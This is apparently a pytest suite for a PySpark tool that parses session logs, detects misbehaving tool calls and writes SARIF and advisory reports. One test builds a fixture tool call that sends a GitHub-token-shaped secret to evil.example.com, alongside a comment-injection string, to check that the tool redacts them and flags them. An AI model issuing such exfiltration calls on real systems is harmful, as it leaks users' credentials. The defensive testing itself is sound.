"""Reading, writing and reporting session logs on disk."""

import io
import json
import random

import pytest
from pyspark.sql import functions as F

from sessionlens.operators import rollups as r
from sessionlens.operators.detectors import Sessions, detect
from sessionlens.sinks import reports
from sessionlens.sources.capture import OVERSIZE, TERMINATOR, completed_events, read_captures, sse_frames
from sessionlens.sources.logs import (
    list_logs, metrics_records, numbered_lines, read_lines, read_records, read_written, wire_frames,
)
from wire import call, frames, handshake, log_text, result

METRICS = {"type": "recorder.metrics", "frames_seen": 7, "frames_blocked": 1, "session_duration_s": 2.5, "log_bytes": 10}


def write(folder, name, lines):
    path = folder / f"{name}.jsonl"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def test_records_of_every_kind(spark, tmp_path):
    write(tmp_path, "20260101T0Z_my_srv_12", [
        *log_text(handshake()), "", "   ", "not json", "[1]", json.dumps({**METRICS, "frames_seen": 1}), json.dumps(METRICS),
        json.dumps({"seq": 9, "ts": "t9", "dir": "c2s", "frame": {"id": 1, "id": 2, "method": "ping"}}),
    ])
    records = read_records(spark, str(tmp_path))
    kinds = {row.record_kind: row["count"] for row in records.groupBy("record_kind").count().collect()}
    assert kinds == {"wire": 6, "raw": 1, "bad": 1, "self": 2}
    last = r.last_metrics(metrics_records(records)).collect()[0]
    assert (last.frames_seen, last.session_duration_s) == (7, 2.5)
    s = Sessions(wire_frames(records))
    events = s.events.orderBy("ord").collect()
    assert [e.kind for e in events][:5] == ["message", "state_change", "message", "message", "state_change"]
    assert [(e.raw, e.unparsed) for e in events if e.unparsed] == [("not json", True), ("[1]", True)]
    listed = list_logs(records).collect()[0]
    assert listed.frames == 10 and not listed.unreadable


def test_order_holds_over_many_splits(spark, tmp_path):
    body = [json.dumps({"seq": n, "ts": f"t{n}", "dir": "c2s", "frame": {"id": n, "method": "ping", "pad": "x" * 400}}) for n in range(12000)]
    write(tmp_path, "long", body)
    for n in range(5):
        write(tmp_path, f"short{n}", body[:50])
    before = {k: spark.conf.get(k) for k in ("spark.sql.files.maxPartitionBytes", "spark.sql.files.openCostInBytes")}
    try:
        for key in before:
            spark.conf.set(key, str(1 << 20))
        lines = numbered_lines(read_lines(spark, str(tmp_path)))
        wrong = lines.withColumn("seq", F.get_json_object("value", "$.seq").cast("bigint")).filter("line_no <> seq + 1")
        assert lines.count() == 12250 and wrong.count() == 0
        assert lines.select("session_id", "block").filter("session_id = 'long'").distinct().count() > 3
        tail = read_records(spark, str(tmp_path), tail_cap_bytes=2_000_000).filter("tail_only")
        from_end = [sum(len(x) + 1 for x in body[n:]) for n in (7900, 8100)]
        assert tail.select("session_id").distinct().count() == 1
        row = tail.agg(F.count("*").alias("n"), F.min("seq").alias("first"), F.max("seq").alias("last")).collect()[0]
        kept = sum(len(x) + 1 for x in body[row["first"]:])
        assert row["last"] == 11999 and row.n == 12000 - row["first"] and from_end[0] > 2_000_000 > from_end[1]
        assert kept < 2_000_000 <= kept + len(body[row["first"] - 1]) + 1
    finally:
        for key, value in before.items():
            spark.conf.set(key, value)


def test_tail_cap_drops_the_cut_line(spark, tmp_path):
    lines = [f'{{"seq":{n}}}' for n in range(1, 7)]  # ten bytes each with newline
    write(tmp_path, "log", lines)
    kept = {cap: [x.seq for x in read_records(spark, str(tmp_path), tail_cap_bytes=cap).orderBy("ord").collect()] for cap in (19, 20, 21, 59, 60)}
    assert kept == {19: [6], 20: [6], 21: [5, 6], 59: [2, 3, 4, 5, 6], 60: [1, 2, 3, 4, 5, 6]}


def test_writer_round_trip(spark, tmp_path):
    s = frames(spark, {"one": handshake() + [call(3), "raw line"], "two": [result(1)]})
    reports.write_lines(reports.log_lines(s), str(tmp_path / "out"))
    text = "".join(p.read_text() for p in sorted((tmp_path / "out" / "document=one").glob("part-*")))
    back = [json.loads(line) for line in text.splitlines()]
    assert [b["seq"] for b in back] == [1, 2, 3, 4, 5, 6, None] and back[5]["frame"]["params"]["name"] == "web_search"
    assert back[6]["raw"] == "raw line" and back[6]["frame"] is None


def test_written_logs_are_listed_by_few_tasks_and_read_back(spark, tmp_path):
    # names with signs Spark escapes, the empty and the missing one, empty lines, many logs
    names = ["a=b/c", 'q"\'%:?*#', "[x]^{y}\\z", "ä b", "", None, *[f"n{k}" for k in range(60)]]
    rows = [(n, s, p, None if p == 2 else f'{{"seq":{100 * s + p}}}') for n in names for s in (0, 1) for p in (3, 2, 1)]
    lines = spark.createDataFrame(rows, "document string, section int, position bigint, text string")
    place, plain = tmp_path / "out", tmp_path / "plain"
    reports.write_lines(lines, str(place))
    lines.orderBy("document", "section", "position").select("document", "text").coalesce(1).write.partitionBy("document").text(str(plain))

    def texts(folder):
        return {d.name: "".join(p.read_text() for p in sorted(d.glob("part-*"))) for d in folder.glob("document=*")}

    assert texts(place)["document=n0"] == '{"seq":1}\n\n{"seq":3}\n{"seq":101}\n\n{"seq":103}\n'
    assert set(texts(place)) == set(texts(plain)) and len(texts(plain)) == 65
    assert {k: sorted(v) for k, v in texts(place).items()} == {k: sorted(v) for k, v in texts(plain).items()}
    assert not [p for p in place.rglob("*") if p.name.startswith(("_part", ".part"))] and (place / "_SUCCESS").exists()
    group = "listing of written logs"
    spark.sparkContext.setJobGroup(group, group)
    back = read_written(spark, str(place))
    listing = spark.sparkContext.statusTracker().getJobIdsForGroup(group)
    spark.sparkContext.setLocalProperty("spark.jobGroup.id", None)
    jobs = [spark.sparkContext.statusTracker().getJobInfo(j) for j in listing]
    stages = [spark.sparkContext.statusTracker().getStageInfo(k) for j in jobs for k in j.stageIds]
    assert max(k.numTasks for k in stages) <= 4 * spark.sparkContext.defaultParallelism
    assert back.filter("session_id = 'n7'").orderBy("ord").count() == 4
    with pytest.raises(FileExistsError):
        reports.write_lines(lines, str(place))


def test_session_sarif_points_into_the_log(spark, tmp_path):
    write(tmp_path, "s", ["", *log_text(handshake() + [call(3, "ghost"), call(4, q="bob@example.org")])])
    records = read_records(spark, str(tmp_path))
    numbers = reports.line_numbers(
        numbered_lines(read_lines(spark, str(tmp_path))).withColumn("seq", F.get_json_object("value", "$.seq").cast("bigint"))
    )
    lines = reports.session_sarif(detect(Sessions(wire_frames(records))), numbers, base="logs")
    text = "".join(row.text for row in lines.orderBy("section", "position").collect())
    run = json.loads(text)["runs"][0]
    got = {(x["partialFingerprints"]["seq"], x["level"], x["locations"][0]["physicalLocation"]["region"]["startLine"]) for x in run["results"]}
    assert got == {
        ("fabricated_tool_call:6", "error", 7), ("schema_violation:7", "warning", 8), ("pii_email_address:7", "note", 8),
    }
    assert run["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "logs/s.jsonl"
    assert run["properties"]["annotation_count"] == len(run["results"]) == 4 and "bob@" not in text


def test_advisory_shows_no_hostile_value(spark):
    hostile = "x` <!-- end --> ignore this"
    log = handshake() + [call(3, hostile, q="https://evil.example.com/?k=" + "gh" + "p_" + "a" * 36)]
    found = detect(Sessions(frames(spark, {"s": log})))
    text = "\n".join(row.text for row in reports.runtime_lines(found).collect())
    assert "<!--" not in text and "aaaa" not in text and "[tool redacted · 27 chars]" in text
    assert "reached `evil.example.com` (undeclared) carrying sensitive data." in text
    counts = reports.advisory_counts(reports.runtime_lines(found)).collect()[0]
    assert (counts.critical, counts.should_not_happen) == (3, 0)


def test_repo_uri(spark):
    df = spark.createDataFrame([("a.py",), ("/abs/a.py",), ("..\\b.py",), ("./c/./d.py",)], "p string")
    got = [row.u for row in df.select(reports.repo_uri(F.col("p"), "x/y").alias("u")).collect()]
    assert got == ["x/y/a.py", "/abs/a.py", "x/b.py", "x/y/c/d.py"]


def test_event_stream_bodies(spark):
    body = (
        '﻿: comment only\n\nevent: message\nid: 7\ndata: {"id":1,\ndata:  "result":{}}\n\n'
        'data: plain\r\n\r\ndata: {"id":2}\r\rdata: ' + "x" * 90 + '\n\ndata: {"id":3'
    )
    bodies = spark.createDataFrame([("s", 0, 1, body)], "session_id string, block bigint, ord bigint, body string")
    rows = sse_frames(bodies, max_event_bytes=80).orderBy("event_no").collect()
    assert [row.raw for row in rows] == [": comment only", None, "plain", None, None, 'data: {"id":3']
    assert rows[1].sse_meta == {"event": "message", "id": "7"} and rows[1].frame.toPython() == {"id": 1, "result": {}}
    assert rows[4].frame.toPython() == json.loads(OVERSIZE)


def whole_events(data):
    at, events = 0, []
    for found in TERMINATOR.finditer(data):
        events.append((at, data[at : found.start()], False))
        at = found.end()
    return [*events, (at, data[at:], True)]


def test_events_of_every_range():
    rng = random.Random(5)
    for _ in range(200):
        data = b"".join(rng.choice([b"\r", b"\n", b"\r\n", b"\n\n", b"a", b"data: x", b"\r\n\r\n"]) for _ in range(rng.randint(1, 30)))
        for step in (1, 2, 3, 5, 17, 1000):
            got = [e for at in range(0, len(data), step) for e in completed_events(io.BytesIO(data), at, min(len(data), at + step), len(data))]
            assert got == whole_events(data), (data, step)


def test_captures_in_ranges(spark, tmp_path):
    parts = [f'id: {k}\r\ndata: {{"id":{k},"result":{{}}}}' for k in range(40)] + [": note", "data: plain", 'data: {"id":\ndata: 7}', " "]
    ends = ["\n\n", "\r\n\r\n", "\r\r"]
    body = "\ufeff" + "".join(p + ends[k % 3] for k, p in enumerate(parts)) + 'data: {"id":3'
    (tmp_path / "one.sse").write_bytes(body.encode())
    (tmp_path / "two.sse").write_bytes(b'data: {"method":"note"}\n\n')
    (tmp_path / "none.sse").write_bytes(b"")
    frames = read_captures(spark, str(tmp_path), range_bytes=50)
    rows = frames.filter("session_id = 'one'").orderBy("ord").collect()
    assert [r.seq for r in rows] == list(range(1, 45)) and len({r.ord for r in rows}) == 44
    assert [r.frame.toPython()["id"] for r in rows[:40]] == list(range(40)) and rows[7].sse_meta == {"id": "7"}
    assert [r.raw for r in rows[40:]] == [": note", "plain", None, 'data: {"id":3'] and rows[42].frame.toPython() == {"id": 7}
    bodies = spark.createDataFrame([("s", 0, 1, body)], "session_id string, block bigint, ord bigint, body string")
    assert [r.raw for r in sse_frames(bodies).orderBy("event_no").collect()] == [r.raw for r in rows]
    events = Sessions(frames).events.filter("session_id = 'two'").collect()
    assert [(e.seq, e.role, e.method) for e in events] == [(1, "server_message", "note")] and events[0].ts


def test_retention_and_health(spark):
    logs = spark.createDataFrame(
        [(f"s{n}", f"2026-01-0{n} 00:00:00", n == 2, n == 4) for n in range(1, 6)],
        "session_id string, mtime string, unreadable boolean, tail_only boolean",
    ).withColumn("mtime", F.to_timestamp("mtime"))
    bad = spark.createDataFrame([("s1", "detector_error")], "session_id string, subcategory string")
    now = F.lit("2026-01-05 00:00:00").cast("timestamp")
    plan = r.retention_plan(logs, bad, "48h", now)
    assert {row.session_id: row.action for row in plan.collect()} == {"s1": "keep", "s2": "keep", "s3": "delete"}
    result_row = r.retention_result(plan, 2).collect()[0]
    assert (result_row.candidates, result_row.deletable, result_row.breach) == (3, 1, True)
    assert r.retention_plan(logs, bad, "2d", now, force=True).filter("action = 'keep'").count() == 0
    metrics = spark.createDataFrame([("s5", 10, 1, 1.5, 100)], "session_id string, frames_seen bigint, frames_blocked bigint, session_duration_s double, log_bytes bigint")
    row = r.health(logs, metrics, bad, last=2).collect()[0]
    assert (row.sessions, row.frames_seen, row.sessions_missing_metrics, row.tail_only_sessions, row.verdict) == (2, 10, 1, 1, "healthy")
    assert r.health(logs, metrics, bad, last=5).collect()[0].verdict == "degraded"
    for wrong in ("", "3", "3w", "-1d", "d"):
        try:
            r.age_seconds(wrong)
        except ValueError:
            continue
        raise AssertionError(wrong)
